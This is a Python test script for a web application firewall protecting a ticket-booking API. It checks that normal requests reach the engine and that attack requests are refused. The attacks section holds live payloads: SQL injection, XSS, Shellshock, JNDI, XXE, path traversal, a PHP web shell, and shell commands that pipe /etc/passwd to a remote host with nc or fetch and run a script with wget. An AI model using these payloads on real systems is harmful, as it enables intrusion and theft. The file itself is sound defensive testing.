"""What the web application firewall lets through and what it refuses.

    python3 tests/proxies/firewall.py URL

Normal traffic, with names and keys as people have them, must get the engine's own answer; attacks must be refused by
the proxy (403, or 400, 404, 405 for what it does not know) and never reach the engine. Exits 1 if one is wrong.
"""

import http.client
import json
import sys
from urllib.parse import urlsplit

url = urlsplit(sys.argv[1])
EVENT = "/v1/events/concert-a"
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def ask(method, path, body=None, **heads):
    heads = {"User-Agent": AGENT, "Accept": "application/json", "Host": "shop.example",
             **{name.replace("_", "-"): value for name, value in heads.items()}}
    if isinstance(body, (dict, list)):
        body = json.dumps(body)
    if body is not None:
        heads.setdefault("Content-Type", "application/json")
        body = body.encode()
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=10)
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in heads.items():
            connection.putheader(name, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, answer.getheader("X-Request-Id"), answer.read()
    finally:
        connection.close()


def reserve(customer, key="k", pool="standing", **more):
    return ask("POST", EVENT + "/reservations", {"customer": customer, "lines": [{"pool": pool, "quantity": 1}]},
               Idempotency_Key=key, **more)


def book(id_, name, email="zoe@example.org", token="tok_visa"):
    return ask("POST", EVENT + "/bookings", {
        "reservation": id_, "payment": {"method": "card", "token": token},
        "contact": {"email": email, "phone": "+4930123456", "name": name}}, Idempotency_Key="b-" + id_)


def event(id_, name):
    return ask("POST", "/v1/events", {
        "id": id_, "name": name, "starts_at": "2027-06-01T19:00:00Z",
        "sale": {"opens_at": "2026-01-01T10:00:00Z", "closes_at": None, "hold_seconds": 600, "per_customer_limit": 4},
        "pools": [{"id": "standing", "kind": "general", "name": "Standing & seats", "capacity": 100,
                   "price": {"amount": 4500, "currency": "EUR"}}]})


def normal():
    """Pairs of what it is and the answer; each must come from the engine, with this status."""
    for number, customer in enumerate(["fan-1", "O'Brien", "user@example.org", "auth0|5f7c8ec7c33c6c004bbafe82",
                                       "550e8400-e29b-41d4-a716-446655440000", "select-tickets", "a/b", "x" * 255]):
        yield 201, f"reserve as {customer[:40]}", reserve(customer, f"normal-{number}")
    keys = ["9b2e...f3", "order/2026/11", "k:1;v=2", "{9f}", "YWxhZGRpbjpvcGVuc2VzYW1l==", "drop-off 7"]
    for number, key in enumerate(keys):
        yield 201, f"key {key}", reserve(f"keyed-{number}", key)
    for number, name in enumerate(["Zoë Ångström", "Conan O'Brien", "Łukasz Żółć", "محمد علي", "Anne-Marie D'Arc Jr.",
                                   "山田太郎", "Union Jack & Sons", "And Or", "Drop Dead Fred"]):
        status, _, body = reserve(f"buyer-{number}", f"buyer-{number}")
        yield 202, f"book as {name}", book(json.loads(body)["id"], name)
    names = ["Rock 'n' Roll", "Guns N' Roses -- live", "AC/DC: Let There Be Rock (1977)", "Hamlet; or, Not To Be?",
             "10% off: <3 Tour", "Select & Union: the 90s"]
    for number, name in enumerate(names):
        yield 201, f"event {name}", event(f"normal-{number}", name)
    yield 200, "change it", ask("PATCH", "/v1/events/normal-0", {"sale": {"state": "paused"}})
    yield 200, "list", ask("GET", "/v1/events?limit=10")
    yield 200, "page", ask("GET", EVENT, If_None_Match='"0-0"', Accept="*/*", Origin="https://shop.example")
    yield 200, "availability", ask("GET", EVENT + "/availability")
    yield 404, "one who is not there", ask("GET", EVENT + "/reservations/000000000000000100000000")
    yield 404, "release what is not there", ask("DELETE", EVENT + "/reservations/000000000000000100000000")
    yield 200, "log", ask("GET", EVENT + "/log?after=0&limit=5")
    yield 400, "no ticket", ask("POST", EVENT + "/checkins", {"code": "ONSALE1.LRBFA7AJMNXW", "nonce": "s1"})
    yield 201, "waiting room", ask("PATCH", "/v1/events/normal-1/waiting-room", {})
    yield 401, "webhook that nobody signed", ask(
        "POST", "/v1/payments/webhook", {"type": "charge.succeeded", "data": "<script>'; DROP TABLE x; --"})
    yield 400, "a mistake is the engine's to explain", ask(
        "POST", EVENT + "/reservations", {"customer": "x", "lines": [{"pool": "standing", "quantity": 0}]})
    yield 200, "description", ask("GET", "/openapi.json")
    yield 200, "from curl", ask("GET", "/v1/events", User_Agent="curl/8.5.0", Accept="*/*")
    yield 201, "from a program", reserve("program-1", "program-1", User_Agent="python-requests/2.32.3")
    yield 200, "ready", ask("GET", "/readyz")


def attacks():
    sql = "1' OR '1'='1' UNION SELECT password FROM users--"
    yield "SQL in a query", ask("GET", "/v1/events?limit=1%27%20OR%20%271%27=%271%27--%20")
    yield "SQL in a cursor", ask("GET", "/v1/events?cursor=x%27%20UNION%20SELECT%20password%20FROM%20users--")
    yield "SQL as a customer", reserve(sql)
    yield "SQL as a name", event("attack-1", "x'; DROP TABLE events; SELECT * FROM users WHERE 'a'='a")
    yield "SQL that sleeps", reserve("1 AND SLEEP(5)#' AND BENCHMARK(10000000,MD5(1))")
    yield "script as a name", event("attack-2", "<script>alert(document.cookie)</script>")
    yield "image that runs", event("attack-3", "<img src=x onerror=alert(1)>")
    yield "script in a query", ask("GET", "/v1/events?cursor=%3Cscript%3Ealert(1)%3C/script%3E")
    yield "shell as a customer", reserve("x; cat /etc/passwd | nc 192.0.2.1 4444")
    yield "shell in backquotes", reserve("`wget http://192.0.2.1/x.sh -O- | sh`")
    yield "shellshock", ask("GET", "/v1/events", User_Agent="() { :;}; /bin/bash -c 'cat /etc/passwd'")
    yield "jndi", reserve("${jndi:ldap://192.0.2.1/a}")
    yield "shellshock in a referer", ask("GET", "/v1/events", Referer="() { :; }; /usr/bin/id")
    yield "path upwards in a query", ask("GET", "/v1/events?cursor=../../../../etc/passwd")
    yield "path upwards as a name", event("attack-4", "../../../../../../etc/passwd")
    yield "php", event("attack-5", "<?php system($_GET['c']); ?>")
    yield "file of another scheme", reserve("php://filter/convert.base64-encode/resource=index")
    yield "scanner sqlmap", ask("GET", "/v1/events", User_Agent="sqlmap/1.7.2#stable (https://sqlmap.org)")
    yield "scanner nikto", ask("GET", "/v1/events", User_Agent="Mozilla/5.00 (Nikto/2.1.6)")
    yield "lines in a query", ask("GET", "/v1/events?cursor=x%0d%0aSet-Cookie:%20a=b")
    yield "TRACE", ask("TRACE", "/v1/events")
    yield "form", ask("POST", EVENT + "/reservations", "a=b", Content_Type="application/x-www-form-urlencoded")
    yield "XML", ask("POST", EVENT + "/reservations", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
                     Content_Type="application/xml")
    yield "broken JSON", ask("POST", EVENT + "/reservations", '{"customer": "x", "customer')
    yield "deep JSON", ask("POST", EVENT + "/reservations", "[" * 100 + "]" * 100)
    yield "java object", reserve("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA java.lang.Runtime.getRuntime().exec('id')")


def main():
    wrong, passed, refused = [], 0, 0
    for wanted, what, (status, request_id, body) in normal():
        if status == wanted and request_id:
            passed += 1
        else:
            wrong.append(f"normal traffic, {what}: {status} {'' if request_id else 'by the proxy '}{body[:200]!r}")
    for what, (status, request_id, body) in attacks():
        if status in (400, 403, 404, 405) and not request_id:
            refused += 1
        else:
            wrong.append(f"attack, {what}: {status} {'by the engine ' if request_id else ''}{body[:200]!r}")
    print(f"firewall: {passed} normal requests passed, {refused} attacks were refused, {len(wrong)} wrong")
    for line in wrong:
        print("WRONG:", line)
    return not wrong


sys.exit(0 if main() else 1)
